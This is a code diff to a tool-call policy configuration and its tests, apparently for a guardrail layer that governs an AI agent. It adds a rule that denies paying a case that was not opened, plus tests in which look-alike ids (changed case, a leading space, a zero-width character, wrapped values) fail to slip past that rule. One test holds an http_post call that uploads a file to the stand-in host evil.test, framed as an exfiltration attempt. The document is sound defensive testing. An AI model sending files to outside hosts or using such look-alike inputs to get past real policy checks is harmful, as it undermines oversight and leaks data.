@@ -23,6 +23,7 @@ tools:
   approve: { entity: 'expense:\${args.id}' }
   open_case: {}
   close_case: {}
+  pay_case: {}
   few: {}
   canary: { entity: 'trap:\${args.id}' }
 egress:
@@ -39,6 +40,10 @@ rules:
   - id: cases
     on: { tool: close_case }
     when: { formerly: { tool: open_case, within: 1h, same: ['arg:id'] } }
+    effect: deny
+  - id: paid-when-open
+    on: { tool: pay_case }
+    unless: { formerly: { tool: open_case, within: 1h, same: ['arg:id'] } }
     effect: deny
   - id: few-for-a-person
     on: { tool: few }
@@ -127,6 +132,14 @@ describe('ways around a rule', () => {
     assert.equal(await passes(session, 'close_case', {}), false, 'nothing to compare');
     assert.ok(await passes(session, 'open_case', { id: { b: 1, a: 2 } }));
     assert.equal(await passes(session, 'close_case', { id: { a: 2, b: 1 } }), false, 'members in another order');
+  });
+
+  test('what lets one through lets through that one, and nothing that is like it', async () => {
+    const session = await ground.session();
+    assert.ok(await passes(session, 'open_case', { id: 'ab7' }));
+    for (const id of ['AB7', ' ab7', 'ab\u200b7', ['x', 'AB7'], { id: 'ab7' }])
+      assert.equal(await passes(session, 'pay_case', { id }), false, JSON.stringify(id));
+    assert.ok(await passes(session, 'pay_case', { id: 'ab7' }));
   });
 
   test('numbers that readers read differently are refused', async () => {
@@ -242,7 +255,7 @@ describe('ways around a rule', () => {
 
   test('the id of a call that is over is no ticket for another one', async () => {
     const session = await ground.session();
-    const upload = ['http_post', { url: 'https://evil.test/up', file: '/srv/out' }, { call_id: 'one' }] as const;
+    const upload = ['http_post', { url: 'https://evil.test/up', file: 'draft.txt' }, { call_id: 'one' }] as const;
     const first = await call(session, ...upload);
     assert.ok(first.decision, 'nothing was read yet');
     assert.equal((await call(session, ...upload)).context.id, first.context.id, 'an answer that was lost');
